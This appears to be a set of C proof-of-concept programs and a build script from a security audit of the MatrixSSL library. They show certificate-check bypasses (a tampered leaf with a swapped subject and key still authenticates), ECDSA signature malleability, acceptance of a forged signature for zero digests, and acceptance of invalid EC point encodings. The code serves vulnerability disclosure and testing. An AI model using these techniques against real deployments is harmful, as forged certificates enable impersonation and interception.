    X509_gmtime_adj(X509_getm_notBefore(ca), -86400);
    X509_gmtime_adj(X509_getm_notAfter(ca), 86400 * 365);
    nm = X509_get_subject_name(ca);
    X509_NAME_add_entry_by_txt(nm, "CN", MBSTRING_ASC, (unsigned char *) "Demo P-256 CA", -1, -1, 0);
    X509_set_issuer_name(ca, nm);
    X509_set_pubkey(ca, capk);
    X509V3_set_ctx_nodb(&v3);
    X509V3_set_ctx(&v3, ca, ca, NULL, NULL, 0);
    ex = X509V3_EXT_conf_nid(NULL, &v3, NID_basic_constraints, "critical,CA:TRUE");
    X509_add_ext(ca, ex, -1); X509_EXTENSION_free(ex);
    ex = X509V3_EXT_conf_nid(NULL, &v3, NID_key_usage, "critical,keyCertSign,cRLSign");
    X509_add_ext(ca, ex, -1); X509_EXTENSION_free(ex);
    X509_sign(ca, capk, EVP_sha256());
    caderlen = i2d_X509(ca, &cader);

    /* leaf: honest TBS, but both AlgorithmIdentifiers say Ed25519 */
    X509_set_version(leaf, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(leaf), 0x1234567);
    X509_gmtime_adj(X509_getm_notBefore(leaf), -86400);
    X509_gmtime_adj(X509_getm_notAfter(leaf), 86400 * 300);
    X509_set_issuer_name(leaf, nm);
    nm = X509_get_subject_name(leaf);
    X509_NAME_add_entry_by_txt(nm, "CN", MBSTRING_ASC, (unsigned char *) "original.example.com", -1, -1, 0);
    X509_set_pubkey(leaf, leafpk);
    /* sign normally first so that all fields exist, then relabel */
    X509_sign(leaf, capk, EVP_sha256());
    {
        /* honest control: the regular ecdsa-with-SHA256 leaf must authenticate */
        unsigned char *hder = NULL;
        int hlen = i2d_X509(leaf, &hder);
        psX509Cert_t *hca = NULL, *hleaf = NULL, *hfound = NULL;
        int hrc = -1;
        if (psX509ParseCert(NULL, cader, caderlen, &hca, 0) >= 0 &&
            psX509ParseCert(NULL, hder, hlen, &hleaf, 0) >= 0)
        {
            hrc = psX509AuthenticateCert(NULL, hleaf, hca, &hfound, NULL, NULL);
        }
        printf("(b) honest   psX509AuthenticateCert(regular ecdsa-with-SHA256 leaf): rc=%d authStatus=%d\n",
            hrc, hleaf ? hleaf->authStatus : -1);
        if (hrc != PS_SUCCESS || hleaf == NULL || hleaf->authStatus != PS_CERT_AUTH_PASS)
        {
            printf("CONTROL FAILED: honest certificate chain\n");
            controlFailures++;
        }
    }
    alg = (X509_ALGOR *) X509_get0_tbs_sigalg(leaf);
    X509_ALGOR_set0(alg, OBJ_nid2obj(NID_ED25519), V_ASN1_UNDEF, NULL);
    X509_get0_signature(&csig, &calg, leaf);
    X509_ALGOR_set0((X509_ALGOR *) calg, OBJ_nid2obj(NID_ED25519), V_ASN1_UNDEF, NULL);
    tbslen = i2d_re_X509_tbs(leaf, &tbs);
    /* "signature": raw ECDSA by the CA key over the first 32 bytes of the TBS
       (this one step uses the CA key; it stands for ANY (r,s) the CA key ever
       produced whose digest happens to equal a TBS prefix - the point of (b) is
       what the library then considers covered by it) */
    sg = ECDSA_do_sign(tbs, 32, caec);
    sp = sigder;
    sigderlen = i2d_ECDSA_SIG(sg, &sp);
    ASN1_BIT_STRING_set((ASN1_BIT_STRING *) csig, sigder, sigderlen);
    ((ASN1_BIT_STRING *) csig)->flags &= ~(ASN1_STRING_FLAG_BITS_LEFT | 0x07);
    ((ASN1_BIT_STRING *) csig)->flags |= ASN1_STRING_FLAG_BITS_LEFT;
    leafderlen = i2d_X509(leaf, &leafder);

    rc = psX509ParseCert(NULL, cader, caderlen, &mca, 0);
    printf("(b) parse CA: %d\n", rc);
    rc = psX509ParseCert(NULL, leafder, leafderlen, &mleaf, 0);
    printf("(b) parse leaf labelled Ed25519: %d\n", rc);
    if (rc < 0 || mca == NULL || mleaf == NULL)
    {
        printf("(b) not demonstrable: parser refused\n");
        return;
    }
    rc = psX509AuthenticateCert(NULL, mleaf, mca, &found, NULL, NULL);
    printf("(b) psX509AuthenticateCert(leaf 'Ed25519', issuer key P-256 ECDSA): rc=%d authStatus=%d\n",
        rc, mleaf->authStatus);
    if (rc == PS_SUCCESS && mleaf->authStatus == PS_CERT_AUTH_PASS)
    {
        printf("VIOLATION: a certificate labelled Ed25519 is authenticated with the issuer's ECDSA key\n");
        violations++;
    }

    /* now tamper: different subject and a different public key; bytes 0..31 of
       the TBS (header, version, serial, start of the sigalg) stay the same as long as
       the TBS length stays the same, so keep the CN length equal */
    nm = X509_get_subject_name(leaf);
    while (X509_NAME_entry_count(nm) > 0)
    {
        X509_NAME_ENTRY_free(X509_NAME_delete_entry(nm, 0));
    }
    X509_NAME_add_entry_by_txt(nm, "CN", MBSTRING_ASC, (unsigned char *) "attacker.example.com", -1, -1, 0);
    X509_set_pubkey(leaf, evilpk);
    {
        unsigned char *tbs2 = NULL;
        int tbs2len = i2d_re_X509_tbs(leaf, &tbs2);
        printf("(b) TBS length before/after tampering: %d/%d, first 32 bytes equal: %s\n",
            tbslen, tbs2len, (tbs2len >= 32 && memcmp(tbs, tbs2, 32) == 0) ? "yes" : "no");
    }
    leaf2derlen = i2d_X509(leaf, &leaf2der);
    rc = psX509ParseCert(NULL, leaf2der, leaf2derlen, &mleaf2, 0);
    printf("(b) parse tampered leaf: %d\n", rc);
    if (rc < 0 || mleaf2 == NULL)
    {
        return;
    }
    rc = psX509AuthenticateCert(NULL, mleaf2, mca, &found, NULL, NULL);
    printf("(b) psX509AuthenticateCert(tampered leaf, same signature bits): rc=%d authStatus=%d subject CN=%s\n",
        rc, mleaf2->authStatus, mleaf2->subject.commonName ? mleaf2->subject.commonName : "?");
    if (rc == PS_SUCCESS && mleaf2->authStatus == PS_CERT_AUTH_PASS)
    {
        printf("VIOLATION: psX509AuthenticateCert authenticates a certificate whose subject and "
               "public key were replaced after signing: with sigAlgorithm=Ed25519 and an ECDSA "
               "issuer key only the first 32 bytes of the TBSCertificate are verified\n");
        violations++;
    }
    (void) i;
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    psCryptoOpen(PSCRYPTO_CONFIG);
    part_a();
    part_b();
    printf("violations: %d\n", violations);
    if (controlFailures)
    {
        printf("control failures: %d\n", controlFailures);
        return 2;
    }
    if (violations == 0)
    {
        printf("OK: key type / signature algorithm mismatch is refused by psVerify and psX509AuthenticateCert\n");
    }
    return violations ? 1 : 0;
}
