#!/bin/sh
# Builds all demos against the static libraries of the worktree (run `make -j4` at /tmp/seed-C11 first).
# Include paths / flags follow crypto/test (see `make V=1`); OpenSSL libcrypto is linked only as an
# independent reference / bignum+EC calculator for the attacker side.
set -e
T=${T:-/tmp/seed-C11}
D=$(dirname "$0")
for n in 1 2 3 4 5; do
  [ -f "$D/demo$n.c" ] || continue
  cc -O1 -g -Wall -Wno-deprecated-declarations \
     -I$T -I$T/core/config -I$T/core/include -I$T/core/osdep/include -I$T/core/include/sfzcl \
     -I$T/crypto -I$T/matrixssl \
     -o "$D/demo$n" "$D/demo$n.c" \
     $T/matrixssl/libssl_s.a $T/crypto/libcrypt_s.a $T/core/libcore_s.a -lcrypto -lpthread
  echo "built demo$n"
done
