/*
 * demo3: psEccDsaVerify() accepts ECDSA-Sig-Value encodings that are not the
 *        DER encoding of (r,s): over-long input (bytes after s), a SEQUENCE
 *        length that does not match its content, negative / non-minimal
 *        INTEGERs, BER long-form lengths.
 *
 * crypto/pubkey/ecc_pub.c:psEccDsaVerify reads the SEQUENCE header with
 * getAsnSequence() and throws the length away, reads r and s with
 * pstm_read_asn() (tag, any BER length, then the content as an UNSIGNED
 * big-endian number) bounded only by the end of the caller's buffer, and never
 * checks that s ends where the SEQUENCE and the buffer end.
 *
 * Consequence: a third party can turn one valid signature into arbitrarily
 * many different byte strings that all verify (signature malleability beyond
 * the inherent (r,-s) one).  Shown on the raw API, through psVerifySig(), and on
 * a certificate: the altered certificate has a different fingerprint, OpenSSL
 * refuses it, psX509AuthenticateCert() authenticates it.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "crypto/cryptoApi.h"
#include <openssl/ec.h>
#include <openssl/ecdsa.h>
#include <openssl/bn.h>
#include <openssl/evp.h>
#include <openssl/sha.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>
#include <openssl/obj_mac.h>
#include <openssl/rand.h>

static int violations = 0;
static psPubKey_t key;
static EC_KEY *ek;
static unsigned char dig[32];

static void try_variant(const char *what, const unsigned char *sig, int siglen)
{
    int32_t st = 0, rc;
    psBool_t res = PS_FALSE;
    int o, a, b;
    unsigned char *heap = malloc(siglen); /* exact-size heap copy, for valgrind */

    memcpy(heap, sig, siglen);
    o = ECDSA_verify(0, dig, 32, heap, siglen, ek);
    rc = psEccDsaVerify(NULL, &key.key.ecc, dig, 32, heap, siglen, &st, NULL);
    a = (rc >= 0 && st == 1);
    rc = psVerifySig(NULL, dig, 32, heap, siglen, &key, OID_SHA256_ECDSA_SIG, &res, NULL);
    b = (rc == PS_SUCCESS && res == PS_TRUE);
    printf("%-52s OpenSSL=%2d psEccDsaVerify=%d psVerifySig=%d\n", what, o, a, b);
    if (o != 1 && (a || b))
    {
        printf("VIOLATION: accepted a non-DER / over-long ECDSA signature encoding: %s\n", what);
        violations++;
    }
    free(heap);
}

static void part_api(void)
{
    EC_GROUP *g = EC_GROUP_new_by_curve_name(NID_X9_62_prime256v1);
    BN_CTX *ctx = BN_CTX_new();
    unsigned char pub[80], sig[80], t[200];
    unsigned int siglen;
    int publen, n;
    const psEccCurve_t *curve;

    ek = EC_KEY_new();
    EC_KEY_set_group(ek, g);
    /* want r with the top bit set (33-byte INTEGER) and s without (32 bytes) */
    for (;; )
    {
        EC_KEY_generate_key(ek);
        RAND_bytes(dig, 32);
        ECDSA_sign(0, dig, 32, sig, &siglen, ek);
        if (sig[3] == 0x21 && sig[4 + 0x21 + 1] == 0x20 && (sig[4 + 0x21 + 2] & 0x80) == 0)
        {
            break;
        }
    }
    publen = EC_POINT_point2oct(g, EC_KEY_get0_public_key(ek), POINT_CONVERSION_UNCOMPRESSED, pub, sizeof(pub), ctx);
    getEccParamByName("secp256r1", &curve);
    memset(&key, 0, sizeof(key));
    psInitPubKey(NULL, &key, PS_ECC);
    psEccX963ImportKey(NULL, pub, publen, &key.key.ecc, curve);
    key.type = PS_ECC;
    key.keysize = 64;

    try_variant("0. the DER signature (baseline)", sig, siglen);

    memcpy(t, sig, siglen); memset(t + siglen, 0xAA, 40);
    try_variant("1. 40 bytes appended after the SEQUENCE", t, siglen + 40);

    memcpy(t, sig, siglen); t[1] += 2; t[siglen] = 0x05; t[siglen + 1] = 0x00;
    try_variant("2. extra element (NULL) inside the SEQUENCE", t, siglen + 2);

    memcpy(t, sig, siglen); t[1] = 0;
    try_variant("3. SEQUENCE length 0, r and s follow anyway", t, siglen);

    memcpy(t, sig, siglen); t[1] = 3;
    try_variant("4. SEQUENCE length 3 (ends inside r)", t, siglen);

    n = 0; t[n++] = 0x30; t[n++] = siglen - 3; t[n++] = 0x02; t[n++] = 0x20;
    memcpy(t + n, sig + 5, 32); n += 32; memcpy(t + n, sig + 4 + 0x21, 34); n += 34;
    try_variant("5. r without its 00 pad (a negative INTEGER)", t, n);

    n = 0; t[n++] = 0x30; t[n++] = siglen - 1; memcpy(t + n, sig + 2, 2 + 0x21); n += 2 + 0x21;
    t[n++] = 0x02; t[n++] = 0x23; t[n++] = 0; t[n++] = 0; t[n++] = 0; memcpy(t + n, sig + 4 + 0x21 + 2, 32); n += 32;
    try_variant("6. s with three superfluous leading 00", t, n);

    n = 0; t[n++] = 0x30; t[n++] = 0x82; t[n++] = 0; t[n++] = siglen - 2 + 2;
    t[n++] = 0x02; t[n++] = 0x81; t[n++] = 0x21; memcpy(t + n, sig + 4, 0x21); n += 0x21;
    t[n++] = 0x02; t[n++] = 0x81; t[n++] = 0x20; memcpy(t + n, sig + 4 + 0x21 + 2, 32); n += 32;
    try_variant("7. BER long-form lengths (30 82 00 xx, 02 81 xx)", t, n);
}

static void part_x509(void)
{
    EC_KEY *caec = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1);
    EC_KEY *leafec = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1);
    EVP_PKEY *capk = EVP_PKEY_new(), *leafpk = EVP_PKEY_new();
    X509 *ca = X509_new(), *leaf = X509_new(), *chk;
    X509_NAME *nm;
    X509_EXTENSION *ex;
    X509V3_CTX v3;
    unsigned char *cader = NULL, *leafder = NULL, *leaf2der = NULL, sig2[200], fp1[32], fp2[32];
    const unsigned char *cp;
    int caderlen, leafderlen, leaf2derlen, rc, n;
    const ASN1_BIT_STRING *csig;
    const X509_ALGOR *calg;
    psX509Cert_t *mca = NULL, *mleaf = NULL, *mleaf2 = NULL, *found = NULL;

    EC_KEY_set_asn1_flag(caec, OPENSSL_EC_NAMED_CURVE);
    EC_KEY_set_asn1_flag(leafec, OPENSSL_EC_NAMED_CURVE);
    EC_KEY_generate_key(caec); EC_KEY_generate_key(leafec);
    EVP_PKEY_set1_EC_KEY(capk, caec); EVP_PKEY_set1_EC_KEY(leafpk, leafec);

    X509_set_version(ca, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(ca), 1);
    X509_gmtime_adj(X509_getm_notBefore(ca), -86400);
    X509_gmtime_adj(X509_getm_notAfter(ca), 86400 * 365);
    nm = X509_get_subject_name(ca);
    X509_NAME_add_entry_by_txt(nm, "CN", MBSTRING_ASC, (unsigned char *) "Demo P-256 CA", -1, -1, 0);
    X509_set_issuer_name(ca, nm);
    X509_set_pubkey(ca, capk);
    X509V3_set_ctx_nodb(&v3);
    X509V3_set_ctx(&v3, ca, ca, NULL, NULL, 0);
    ex = X509V3_EXT_conf_nid(NULL, &v3, NID_basic_constraints, "critical,CA:TRUE");
    X509_add_ext(ca, ex, -1); X509_EXTENSION_free(ex);
    ex = X509V3_EXT_conf_nid(NULL, &v3, NID_key_usage, "critical,keyCertSign,cRLSign");
    X509_add_ext(ca, ex, -1); X509_EXTENSION_free(ex);
    X509_sign(ca, capk, EVP_sha256());
    caderlen = i2d_X509(ca, &cader);

    X509_set_version(leaf, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(leaf), 0x7654321);
    X509_gmtime_adj(X509_getm_notBefore(leaf), -86400);
    X509_gmtime_adj(X509_getm_notAfter(leaf), 86400 * 300);
    X509_set_issuer_name(leaf, nm);
    nm = X509_get_subject_name(leaf);
    X509_NAME_add_entry_by_txt(nm, "CN", MBSTRING_ASC, (unsigned char *) "revoked.example.com", -1, -1, 0);
    X509_set_pubkey(leaf, leafpk);
    X509_sign(leaf, capk, EVP_sha256());
    leafderlen = i2d_X509(leaf, &leafder);
    SHA256(leafder, leafderlen, fp1);

    /* third party (no key): append 8 bytes to the signature inside the BIT STRING */
    X509_get0_signature(&csig, &calg, leaf);
    n = ASN1_STRING_length(csig);
    memcpy(sig2, ASN1_STRING_get0_data(csig), n);
    memset(sig2 + n, 0x5a, 8);
    ASN1_BIT_STRING_set((ASN1_BIT_STRING *) csig, sig2, n + 8);
    leaf2derlen = i2d_X509(leaf, &leaf2der);
    SHA256(leaf2der, leaf2derlen, fp2);

    cp = leaf2der;
    chk = d2i_X509(NULL, &cp, leaf2derlen);
    printf("x509: OpenSSL X509_verify(original)=%d\n", X509_verify(d2i_X509(NULL, (cp = leafder, &cp), leafderlen), capk));
    printf("x509: OpenSSL X509_verify(altered signature bytes)=%d\n", chk ? X509_verify(chk, capk) : -99);
    printf("x509: SHA-256 fingerprints differ: %s (%02x%02x%02x%02x.. vs %02x%02x%02x%02x..)\n",
        memcmp(fp1, fp2, 32) ? "yes" : "no", fp1[0], fp1[1], fp1[2], fp1[3], fp2[0], fp2[1], fp2[2], fp2[3]);

    rc = psX509ParseCert(NULL, cader, caderlen, &mca, 0);
    if (rc < 0) { printf("x509: CA parse failed %d\n", rc); return; }
    rc = psX509ParseCert(NULL, leafder, leafderlen, &mleaf, 0);
    if (rc < 0) { printf("x509: leaf parse failed %d\n", rc); return; }
    rc = psX509AuthenticateCert(NULL, mleaf, mca, &found, NULL, NULL);
    printf("x509: psX509AuthenticateCert(original): rc=%d authStatus=%d\n", rc, mleaf->authStatus);
    rc = psX509ParseCert(NULL, leaf2der, leaf2derlen, &mleaf2, 0);
    if (rc < 0) { printf("x509: altered leaf parse failed %d\n", rc); return; }
    rc = psX509AuthenticateCert(NULL, mleaf2, mca, &found, NULL, NULL);
    printf("x509: psX509AuthenticateCert(altered signature bytes): rc=%d authStatus=%d\n", rc, mleaf2->authStatus);
    if (rc == PS_SUCCESS && mleaf2->authStatus == PS_CERT_AUTH_PASS)
    {
        printf("VIOLATION: a certificate whose ECDSA signature value was extended by a third party "
               "(different fingerprint, refused by OpenSSL) is authenticated\n");
        violations++;
    }
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    psCryptoOpen(PSCRYPTO_CONFIG);
    part_api();
    part_x509();
    printf("violations: %d\n", violations);
    if (violations == 0)
    {
        printf("OK: only the DER encoding of (r,s) is accepted\n");
    }
    return violations ? 1 : 0;
}
