/*
 * demo2: ECDSA verification is wrong for digests e with e = 0 (mod n)
 *        (all-zero digest, or a digest equal to the group order n).
 *
 * psEccDsaVerify() computes u1 = e/s mod n and then eccMulmod(u1, G).  The
 * Montgomery ladder in eccMulmodCt() starts with M[0] = P and only ever
 * leaves "mode 0" when it meets a 1 bit, so for the scalar k = 0 it returns
 * P itself instead of the point at infinity:  0*G == G.  For e = 0 (mod n)
 * the verifier therefore checks  x(G + u2*Q) == r  instead of
 * x(u2*Q) == r:
 *   - every correct signature over such a digest is REJECTED, and
 *   - a value (r,s) that is NOT a valid ECDSA signature (OpenSSL rejects it)
 *     is ACCEPTED.
 * Both directions are shown for all five built-in curves, through
 * psEccDsaVerify() and through psVerifySig().
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "crypto/cryptoApi.h"
#include <openssl/ec.h>
#include <openssl/ecdsa.h>
#include <openssl/bn.h>
#include <openssl/obj_mac.h>
#include <openssl/rand.h>

static struct { const char *name; int nid; int size; } curves[] = {
    { "secp192r1", NID_X9_62_prime192v1, 24 },
    { "secp224r1", NID_secp224r1, 28 },
    { "secp256r1", NID_X9_62_prime256v1, 32 },
    { "secp384r1", NID_secp384r1, 48 },
    { "secp521r1", NID_secp521r1, 66 },
};

static int violations = 0;
static int controlFailures = 0;

static int lib_verify(psPubKey_t *key, const unsigned char *dig, int diglen,
    const unsigned char *sig, int siglen, int viaVerifySig)
{
    if (viaVerifySig)
    {
        psBool_t res = PS_FALSE;
        psVerifyOptions_t opts;
        int32_t rc;
        memset(&opts, 0, sizeof(opts));
        rc = psVerifySig(NULL, dig, diglen, sig, siglen, key, OID_SHA256_ECDSA_SIG, &res, &opts);
        return rc == PS_SUCCESS && res == PS_TRUE;
    }
    else
    {
        int32_t st = 0;
        int32_t rc = psEccDsaVerify(NULL, &key->key.ecc, dig, diglen, sig, siglen, &st, NULL);
        return rc >= 0 && st == 1;
    }
}

int main(void)
{
    int ci, variant;
    BN_CTX *ctx = BN_CTX_new();

    setvbuf(stdout, NULL, _IONBF, 0);
    psCryptoOpen(PSCRYPTO_CONFIG);

    for (ci = 0; ci < 5; ci++)
    {
        EC_GROUP *g = EC_GROUP_new_by_curve_name(curves[ci].nid);
        const psEccCurve_t *curve;
        BIGNUM *n = BN_new();
        int sz = curves[ci].size;

        if (getEccParamByName(curves[ci].name, &curve) < 0)
        {
            continue;
        }
        EC_GROUP_get_order(g, n, ctx);

        /* variant 0: all-zero digest; variant 1: digest == n (as sz bytes) */
        for (variant = 0; variant < 2; variant++)
        {
            EC_KEY *ek = EC_KEY_new();
            unsigned char dig[66], pub[140], sig[160], fsig[160], *p;
            unsigned int siglen;
            int diglen = sz, publen, fsiglen, a, b, c, d;
            psPubKey_t key;
            EC_POINT *R = EC_POINT_new(g);
            BIGNUM *u2 = BN_new(), *r = BN_new(), *s = BN_new(), *x = BN_new(), *y = BN_new(), *t = BN_new();
            ECDSA_SIG *sg;

            if (variant == 1 && sz == 66)
            {
                /* no hash output is as long as the 521-bit order (and OpenSSL would
                   truncate a 66-byte input to 521 bits): only the zero digest here */
                continue;
            }
            if (variant == 0)
            {
                memset(dig, 0, sizeof(dig));
            }
            else
            {
                BN_bn2binpad(n, dig, sz);
            }
            EC_KEY_set_group(ek, g);
            EC_KEY_generate_key(ek);
            publen = EC_POINT_point2oct(g, EC_KEY_get0_public_key(ek), POINT_CONVERSION_UNCOMPRESSED,
                    pub, sizeof(pub), ctx);
            memset(&key, 0, sizeof(key));
            psInitPubKey(NULL, &key, PS_ECC);
            if (psEccX963ImportKey(NULL, pub, publen, &key.key.ecc, curve) < 0)
            {
                printf("import failed\n");
                return 2;
            }
            key.type = PS_ECC;
            key.keysize = 2 * sz;

            /* honest control: random digest, genuine signature -> accepted; one bit
               of the digest flipped -> rejected */
            {
                unsigned char rd[66], rs[160];
                unsigned int rsl;
                int okv, badv;
                int rl = sz > 64 ? 64 : sz;
                RAND_bytes(rd, rl);
                ECDSA_sign(0, rd, rl, rs, &rsl, ek);
                okv = lib_verify(&key, rd, rl, rs, rsl, 0) && lib_verify(&key, rd, rl, rs, rsl, 1);
                rd[rl - 1] ^= 1;
                badv = lib_verify(&key, rd, rl, rs, rsl, 0) || lib_verify(&key, rd, rl, rs, rsl, 1);
                if (!okv || badv)
                {
                    printf("CONTROL FAILED: %s random digest genuine=%d wrongdigest=%d\n", curves[ci].name, okv, badv);
                    controlFailures++;
                }
            }
            /* 1. a correct signature made with the private key (by OpenSSL) */
            ECDSA_sign(0, dig, diglen, sig, &siglen, ek);
            a = ECDSA_verify(0, dig, diglen, sig, siglen, ek);
            b = lib_verify(&key, dig, diglen, sig, siglen, 0);
            c = lib_verify(&key, dig, diglen, sig, siglen, 1);

            /* 2. NOT a signature: R = G + u2*Q, r = x(R) mod n, s = r/u2.
                  (correct verification computes x(u2*Q) != r) */
            do
            {
                BN_rand_range(u2, n);
            } while (BN_is_zero(u2));
            EC_POINT_mul(g, R, BN_value_one(), EC_KEY_get0_public_key(ek), u2, ctx);
            EC_POINT_get_affine_coordinates(g, R, x, y, ctx);
            BN_nnmod(r, x, n, ctx);
            BN_mod_inverse(t, u2, n, ctx);
            BN_mod_mul(s, r, t, n, ctx);
            sg = ECDSA_SIG_new();
            ECDSA_SIG_set0(sg, BN_dup(r), BN_dup(s));
            p = fsig;
            fsiglen = i2d_ECDSA_SIG(sg, &p);
            ECDSA_SIG_free(sg);
            d = ECDSA_verify(0, dig, diglen, fsig, fsiglen, ek);

            printf("%s digest=%s: genuine signature: OpenSSL=%d psEccDsaVerify=%d psVerifySig=%d | "
                   "bogus (r,s): OpenSSL=%d psEccDsaVerify=%d psVerifySig=%d\n",
                curves[ci].name, variant ? "n" : "00..00", a, b, c, d,
                lib_verify(&key, dig, diglen, fsig, fsiglen, 0),
                lib_verify(&key, dig, diglen, fsig, fsiglen, 1));
            if (a == 1 && (!b || !c))
            {
                printf("VIOLATION: %s: a mathematically valid ECDSA signature over the %s digest is rejected\n",
                    curves[ci].name, variant ? "e == n" : "all-zero");
                violations++;
            }
            if (d != 1 && (lib_verify(&key, dig, diglen, fsig, fsiglen, 0) ||
                           lib_verify(&key, dig, diglen, fsig, fsiglen, 1)))
            {
                printf("VIOLATION: %s: (r,s) that does not satisfy the ECDSA equation for the %s digest "
                       "is accepted (made without the private key)\n",
                    curves[ci].name, variant ? "e == n" : "all-zero");
                violations++;
            }
            psClearPubKey(&key);
            EC_KEY_free(ek);
        }
    }
    printf("violations: %d, honest controls failed: %d\n", violations, controlFailures);
    if (controlFailures)
    {
        return 2;
    }
    if (violations == 0)
    {
        printf("OK: ECDSA verification agrees with OpenSSL for digests e == 0 (mod n)\n");
    }
    return violations ? 1 : 0;
}
