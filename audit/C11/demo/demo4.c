/*
 * demo4: psEccX963ImportKey() does not tie the encoding to the curve: the
 *        coordinate length is taken from the INPUT length ((inlen-1)/2, any odd
 *        inlen >= 49) instead of curve->size, and eccTestPoint() only checks
 *        y^2 == x^3 - 3x + b (mod p) without checking 0 <= x,y < p.
 *
 * So for secp256r1 the import - the function used for TLS key shares,
 * ServerKeyExchange / ClientKeyExchange points and certificate keys - accepts
 *   - 04 || X || Y with 33-, 48- or 66-byte coordinates,
 *   - coordinates that are not field elements at all: x = p, x + p, y + p, ...
 * i.e. infinitely many octet strings for one point, none of which is a valid
 * SEC1 / X9.62 encoding of a group element of that curve (OpenSSL's
 * EC_POINT_oct2point refuses every one of them).  The library then goes on
 * to compute ECDH shared secrets and to verify ECDSA signatures with such
 * keys.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "crypto/cryptoApi.h"
#include <openssl/ec.h>
#include <openssl/ecdsa.h>
#include <openssl/bn.h>
#include <openssl/obj_mac.h>
#include <openssl/rand.h>

static int violations = 0;
static EC_GROUP *g;
static BN_CTX *ctx;
static const psEccCurve_t *curve;
static psEccKey_t priv;           /* "our" ECDH private key */
static unsigned char refSecret[32];

static void try_point(const char *what, const unsigned char *enc, int enclen)
{
    EC_POINT *P = EC_POINT_new(g);
    int o = EC_POINT_oct2point(g, P, enc, enclen, ctx);
    psEccKey_t k;
    int32_t rc;
    unsigned char *heap = malloc(enclen);
    unsigned char secret[66];
    psSize_t slen = sizeof(secret);
    int used = 0, same = 0;

    memcpy(heap, enc, enclen);
    memset(&k, 0, sizeof(k));
    rc = psEccX963ImportKey(NULL, heap, enclen, &k, curve);
    if (rc == PS_SUCCESS)
    {
        if (psEccGenSharedSecret(NULL, &priv, &k, secret, &slen, NULL) == PS_SUCCESS)
        {
            used = 1;
            same = (slen == 32 && memcmp(secret, refSecret, 32) == 0);
        }
        psEccClearKey(&k);
    }
    printf("%-58s len=%3d OpenSSL oct2point=%d  psEccX963ImportKey rc=%d%s%s\n", what, enclen, o, rc,
        used ? ", ECDH computed" : "", used ? (same ? " (== secret of the canonical point)" : " (other secret)") : "");
    if (o != 1 && rc == PS_SUCCESS)
    {
        printf("VIOLATION: imported (and used) a public value that is not a valid encoding of a "
               "secp256r1 group element: %s\n", what);
        violations++;
    }
    free(heap);
    EC_POINT_free(P);
}

int main(void)
{
    EC_KEY *peer;
    BIGNUM *p = BN_new(), *a = BN_new(), *b = BN_new(), *x = BN_new(), *y = BN_new(),
           *t = BN_new(), *u = BN_new(), *rt;
    unsigned char enc[300], sk[32];
    psSize_t slen = 32;
    psEccKey_t canon;

    setvbuf(stdout, NULL, _IONBF, 0);
    psCryptoOpen(PSCRYPTO_CONFIG);
    ctx = BN_CTX_new();
    g = EC_GROUP_new_by_curve_name(NID_X9_62_prime256v1);
    getEccParamByName("secp256r1", &curve);
    EC_GROUP_get_curve(g, p, a, b, ctx);

    peer = EC_KEY_new();
    EC_KEY_set_group(peer, g);
    EC_KEY_generate_key(peer);
    EC_POINT_get_affine_coordinates(g, EC_KEY_get0_public_key(peer), x, y, ctx);

    /* our private key */
    RAND_bytes(sk, 32);
    sk[0] &= 0x7f; sk[0] |= 0x40;
    memset(&priv, 0, sizeof(priv));
    psEccInitKey(NULL, &priv, curve);
    pstm_init_for_read_unsigned_bin(NULL, &priv.k, 32);
    pstm_read_unsigned_bin(&priv.k, sk, 32);
    priv.type = PS_PRIVKEY;

    /* canonical */
    enc[0] = 4; BN_bn2binpad(x, enc + 1, 32); BN_bn2binpad(y, enc + 33, 32);
    memset(&canon, 0, sizeof(canon));
    psEccX963ImportKey(NULL, enc, 65, &canon, curve);
    psEccGenSharedSecret(NULL, &priv, &canon, refSecret, &slen, NULL);
    try_point("0. canonical 04||X||Y (baseline)", enc, 65);

    enc[0] = 4; BN_bn2binpad(x, enc + 1, 33); BN_bn2binpad(y, enc + 34, 33);
    try_point("1. 33-byte coordinates (leading 00)", enc, 67);

    enc[0] = 4; BN_bn2binpad(x, enc + 1, 48); BN_bn2binpad(y, enc + 49, 48);
    try_point("2. P-384 sized encoding (97 bytes) on secp256r1", enc, 97);

    BN_add(t, x, p); BN_add(u, y, p);
    enc[0] = 4; BN_bn2binpad(t, enc + 1, 33); BN_bn2binpad(u, enc + 34, 33);
    try_point("3. x+p, y+p (coordinates outside the field)", enc, 67);

    BN_lshift(t, p, 200); BN_add(t, t, x);     /* x + p*2^200 */
    BN_mul(u, p, p, ctx); BN_sub(u, u, y);     /* p^2 - y  == -y */
    enc[0] = 4; BN_bn2binpad(t, enc + 1, 66); BN_bn2binpad(u, enc + 67, 66);
    try_point("4. x + p*2^200, p^2 - y as 66-byte coordinates", enc, 133);

    /* x = p  (i.e. 0, but not a field element), y = sqrt(b): fits the regular 65 bytes */
    rt = BN_mod_sqrt(NULL, b, p, ctx);
    if (rt != NULL)
    {
        psEccKey_t z;
        unsigned char zs[32];
        psSize_t zl = 32;
        /* reference secret for (0, sqrt(b)) */
        enc[0] = 4; memset(enc + 1, 0, 32); BN_bn2binpad(rt, enc + 33, 32);
        memset(&z, 0, sizeof(z));
        if (psEccX963ImportKey(NULL, enc, 65, &z, curve) == PS_SUCCESS &&
            psEccGenSharedSecret(NULL, &priv, &z, zs, &zl, NULL) == PS_SUCCESS)
        {
            memcpy(refSecret, zs, 32);
        }
        enc[0] = 4; BN_bn2binpad(p, enc + 1, 32); BN_bn2binpad(rt, enc + 33, 32);
        try_point("5. x = p (not < p), y = sqrt(b), regular 65 bytes", enc, 65);
    }

    printf("violations: %d\n", violations);
    if (violations == 0)
    {
        printf("OK: only canonical fixed-length encodings with coordinates < p are imported\n");
    }
    return violations ? 1 : 0;
}
