/* Shared helpers for the C01 audit demos: in-memory transport between
   MatrixSSL sessions, key loading from the testkeys/ headers and a tiny
   TLS 1.2 "attacker" toolbox (PRF, AES-128-GCM record sealing) that uses
   only public values. */
#ifndef C01_HARNESS_H
#define C01_HARNESS_H

